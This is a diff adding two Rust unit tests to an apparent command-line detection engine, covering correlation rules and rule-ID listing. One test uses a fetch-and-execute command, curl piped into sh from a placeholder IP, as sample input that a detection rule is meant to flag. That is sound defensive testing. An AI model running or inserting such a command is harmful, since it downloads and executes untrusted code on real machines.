@@ -245,6 +245,28 @@ fn the_config_turns_rules_off_and_sets_severities() {
 }
 
 #[test]
+fn a_correlation_of_ones_own_silences_no_built_in_rule() {
+    let own = "title: Mine\nname: mine\ncorrelation:\n  type: event_count\n  rules: [CMD-20]\n  group-by: [Owner]\n  timespan: 1h\n  condition: {gte: 2}\n";
+    let detections = Detections::load(&[("own.yml".to_owned(), own.to_owned())], &Tuning::default()).unwrap();
+    let mut bursts = Bursts::new(detections.correlations());
+    let at = Timestamp::from_second(1_700_000_000).unwrap();
+    let mut raised = || {
+        let hits = detections.command(&SESSION, &["curl http://192.0.2.7/x | sh"]);
+        bursts.take(&SESSION, at, hits).iter().map(|hit| hit.rule.id.to_string()).collect::<Vec<_>>()
+    };
+    assert_eq!(raised(), ["CMD-20"]);
+    assert_eq!(raised(), ["CMD-20", "mine"]);
+}
+
+#[test]
+fn ids_are_known_without_compiling() {
+    let ids = Detections::ids(&[]).unwrap();
+    let detections = built_in();
+    assert_eq!(ids.len(), detections.rules().len());
+    assert!(detections.rules().iter().all(|rule| ids.contains(&rule.id)));
+}
+
+#[test]
 fn ids_are_taken_once() {
     let rule = "name: CMD-20\ntitle: Mine\nlogsource:\n  product: linux\ndetection:\n  k:\n    - x\n  condition: k\n";
     let detections = Detections::load(&[("own.yml".to_owned(), rule.to_owned())], &Tuning::default()).unwrap();
